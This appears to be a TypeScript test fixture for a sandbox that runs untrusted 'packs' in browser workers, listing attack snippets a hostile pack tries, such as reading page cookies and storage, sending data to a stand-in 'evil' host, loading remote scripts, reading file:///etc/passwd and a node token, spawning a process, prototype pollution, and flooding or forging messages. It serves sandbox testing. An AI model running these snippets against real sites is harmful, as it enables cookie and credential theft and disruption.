/**
 * What a hostile pack tries from inside its worker in somebody's tab: each entry is the body of an async function of the pack, with
 * `site` (the page's origin), `server` (the orchestrator's) and `evil` (a server that waits for news) in scope. What it returns is its
 * booty; that it throws is the defence. Where an attack is refused by getting nothing, it throws by itself.
 */
export const attacks: Readonly<Record<string, Readonly<Record<string, string>>>> = {
  page: {
    'reads the cookies of the page': `return document.cookie`,
    'reads cookies by the newer way': `return await cookieStore.getAll()`,
    'reaches the document': `return document.body.innerHTML`,
    'reaches the window': `return window.location.href`,
    'reaches the parent': `return parent.location.href`,
    'reaches the top': `return top.document.title`,
    'reads local storage': `return { ...localStorage }`,
    'reads session storage': `return { ...sessionStorage }`,
    'opens a database of the page': `return await new Promise((y, n) => { const r = indexedDB.open('host'); r.onsuccess = () => y(r.result.name); r.onerror = () => n(r.error) })`,
    'lists caches': `const keys = await caches.keys(); if (keys.length > 0) return keys; throw new Error('none')`,
    'opens a cache of the page': `return await (await (await caches.open('host')).match('/')).text()`,
    'opens the private file system': `return (await navigator.storage.getDirectory()).name`,
    'steals the lock of the page': `return await navigator.locks.request('host', { steal: true }, () => 'stolen')`,
    'asks who holds locks': `return (await navigator.locks.query()).held.map(({ name }) => name)`,
    'registers a service worker': `return (await navigator.serviceWorker.register('/sw.js')).scope`,
    'hears what tabs tell each other': `const c = new BroadcastChannel('host'); return await new Promise((y, n) => { c.onmessage = ({ data }) => y(data); setTimeout(n, 300, new Error('silence')) })`,
    'learns where the page is': `const found = [location.href, location.origin, self.origin].find((each) => each.includes(site)); if (found) return found; throw new Error('no')`,
    'asks for a permission': `const { state } = await navigator.permissions.query({ name: 'geolocation' }); if (state === 'denied') throw new Error('denied'); return state`,
    'shows a notification': `const shown = new Notification('hello'); return await new Promise((y, n) => { shown.onshow = () => y('shown'); shown.onerror = () => n(new Error('refused')) })`,
    'opens a window': `return open(evil).closed`,
  },
  network: {
    "fetches the page's site with its cookies": `return await (await fetch(site + '/data', { credentials: 'include' })).text()`,
    "fetches the orchestrator's API": `return (await fetch(server + '/api/pods', { credentials: 'include' })).status`,
    'fetches without reading the answer': `return (await fetch(evil + '/no-cors', { mode: 'no-cors', method: 'POST', body: 'news' })).type`,
    'fetches by the older way': `const x = new XMLHttpRequest(); x.open('GET', evil + '/xhr', false); x.withCredentials = true; x.send(); return x.status`,
    "opens a socket to the page's site": `return await socket(site.replace('http', 'ws') + '/socket')`,
    'opens a socket to the orchestrator': `return await socket(server.replace('http', 'ws') + '/ws')`,
    'opens a stream of events': `return await new Promise((y, n) => { const s = new EventSource(evil + '/events'); s.onopen = () => y('open'); s.onerror = () => n(new Error('error')) })`,
    'imports a module from elsewhere': `return Object.keys(await import(evil + '/module.js'))`,
    'imports a script from elsewhere': `importScripts(evil + '/script.js'); return 'imported'`,
    'imports a script as data': `importScripts('data:text/javascript,self.x=1'); return x`,
    'loads a font': `return (await new FontFace('f', 'url(' + evil + '/font.woff)').load()).status`,
    'sends a beacon': `if (navigator.sendBeacon(evil + '/beacon', 'news')) return 'sent'; throw new Error('no')`,
    'opens a transport': `const t = new WebTransport(evil.replace('http:', 'https:')); t.closed.catch(() => undefined); await t.ready; return 'ready'`,
    'opens a connection between peers': `return await new RTCPeerConnection().createOffer()`,
    'starts a worker from elsewhere': `return await worker(new Worker(evil + '/worker.js'))`,
    'leaves by a redirect': `location.href = evil + '/redirect'; throw new Error('still here')`,
    'fetches a file through its agent': `return await (await context.fetch('file:///etc/passwd')).text()`,
    'fetches the page through its agent with cookies': `const text = await (await context.fetch(site + '/cookies', { credentials: 'include' })).text(); if (text.includes('session')) return text; throw new Error('no cookie')`,
    'brings a cookie of its own': `const text = await (await context.fetch(site + '/cookies', { headers: { cookie: 'session=forged' } })).text(); if (text.includes('forged')) return text; throw new Error('no cookie')`,
  },
  code: {
    'evaluates text': `return (0, eval)('1 + 1')`,
    'makes a function of text': `return new Function('return 1')()`,
    'gives a timer text': `return await new Promise((y, n) => { self.hit = y; setTimeout('hit(1)', 1); setTimeout(n, 200, new Error('nothing')) })`,
    'shares memory between threads': `return new SharedArrayBuffer(8).byteLength > 0 && crossOriginIsolated ? 'shared' : (() => { throw new Error('not isolated') })()`,
    'spawns a process': `return (await import('node:child_process')).execSync('id')`,
    'reads the token of its node': `const text = JSON.stringify([context, { ...self }], (k, v) => typeof v === 'function' ? String(v) : v); if (text.includes('stark_node_')) return text; throw new Error('no token')`,
    'pollutes what its agent reads': `const poison = JSON.parse('{"__proto__":{"polluted":true}}'); await context.kv.set('p', poison); const back = await context.kv.get('p')
      if ({}.polluted || back.polluted === true && !Object.hasOwn(back, '__proto__')) return 'polluted'; throw new Error('no')`,
    'calls what is no operation': `const codes = []; for (const name of ['constructor', '__proto__', 'toString', 'kv']) codes.push(await say({ type: 'call', id: 900 + codes.length, operation: name, input: {} }))
      throw new Error('said')`,
  },
}

/** One pack that tries all of a group, one after the other, and returns what each got or why not. */
export const packOf = (group: Readonly<Record<string, string>>): string => `
const ports = new Set()
const { postMessage } = MessagePort.prototype
MessagePort.prototype.postMessage = function (...given) { ports.add(this); return postMessage.apply(this, given) }
const say = (message) => { for (const port of ports) postMessage.call(port, JSON.stringify(message)) }
const socket = (url) => new Promise((resolve, reject) => { const s = new WebSocket(url); s.onopen = () => resolve('open'); s.onerror = () => reject(new Error('error')) })
const worker = (made) => new Promise((resolve, reject) => { made.onmessage = resolve; made.onerror = () => reject(new Error('error')); setTimeout(reject, 500, new Error('silence')) })
const attacks = { ${Object.entries(group)
  .map(([name, body]) => `${JSON.stringify(name)}: async ({ site, server, evil }, context) => { ${body} }`)
  .join(',\n')} }
export default async function main(context) {
  const targets = JSON.parse(context.env.TARGETS)
  const outcomes = {}
  for (const [name, attack] of Object.entries(attacks)) {
    context.status(name)
    const late = new Promise((resolve) => setTimeout(resolve, 15_000, { booty: 'no answer in time' }))
    const outcome = attack(targets, context).then((booty) => ({ booty: booty ?? 'nothing' }), (error) => ({ refused: String(error) }))
    outcomes[name] = await Promise.race([outcome, late])
  }
  return outcomes
}`

/** Packs that do not ask but do: each costs itself, and the test says what it comes to. */
export const nuisances: Readonly<Record<string, { readonly source: string; readonly becomes: object }>> = {
  'floods its port': {
    source: `const { postMessage } = MessagePort.prototype; let port
      MessagePort.prototype.postMessage = function (...given) { port = this; return postMessage.apply(this, given) }
      export default async function main(context) { context.log.info('x'); for (;;) postMessage.call(port, '{"type":"status","text":"x"}') }`,
    becomes: { status: 'failed', exit: { error: { name: 'ProtocolError' } } },
  },
  'says something enormous': {
    source: `const { postMessage } = MessagePort.prototype; let port
      MessagePort.prototype.postMessage = function (...given) { port = this; return postMessage.apply(this, given) }
      export default async function main(context) { context.log.info('x'); postMessage.call(port, 'x'.repeat(9_000_000)); await context.sleep(60_000) }`,
    becomes: { status: 'failed', exit: { error: { name: 'ProtocolError' } } },
  },
  'says that it is another pod, and what is in no protocol': {
    source: `const { postMessage } = MessagePort.prototype; let port
      MessagePort.prototype.postMessage = function (...given) { port = this; return postMessage.apply(this, given) }
      export default async function main(context) {
        context.log.info('x')
        for (const each of [null, 1, [], {}, { type: 'exit' }, { type: 'boot', boot: {} }, { type: 'answer', id: 7, value: 1 }, { type: 'log', level: 'fatal', text: 'x' },
          { type: 'memory', bytes: -1 }, { type: 'progress', value: 7 }, { type: 'status', podId: 'other', text: 'I am the neighbour' }]) postMessage.call(port, JSON.stringify(each))
        postMessage.call(port, new ArrayBuffer(8)); postMessage.call(port, { type: 'exit' }); postMessage.call(port, '{')
        await context.sleep(200)
        return 'still here' }`,
    becomes: { status: 'succeeded', exit: { result: 'still here' } },
  },
  'talks past its port to its frame, the agent and the page': {
    source: `export default async function main(context) {
      for (const message of [{ type: 'up', kind: 'data' }, { type: 'hello' }, { type: 'state', state: { phase: 'refused' } }, { type: 'broken', message: 'forged' }, { type: 'kill' }])
        self.postMessage(message)
      const channel = new BroadcastChannel('host'); channel.postMessage('forged'); new BroadcastChannel('stark-agent').postMessage({ type: 'kill' })
      await context.sleep(300); return 'said' }`,
    becomes: { status: 'succeeded', exit: { result: 'said' } },
  },
  'starts timers without end': {
    source: `export default async function main(context) { for (let i = 0; i < 200_000; i++) setTimeout(() => {}, i % 50); await context.sleep(300); return 'tired' }`,
    becomes: { status: 'succeeded', exit: { result: 'tired' } },
  },
  'asks its agent without end': {
    source: `export default async function main(context) {
      const refused = await Promise.all(Array.from({ length: 5000 }, () => context.kv.get('x').then(() => 0, () => 1))); return refused.includes(1) }`,
    becomes: { status: 'succeeded', exit: { result: true } },
  },
  'replaces what everybody uses': {
    source: `Object.prototype.type = 'exit'; Object.prototype.status = 'succeeded'; Array.prototype.map = () => []; JSON.parse = () => ({ type: 'stop' })
      export default async function main() { throw new Error('after all') }`,
    becomes: { status: 'failed' },
  },
}
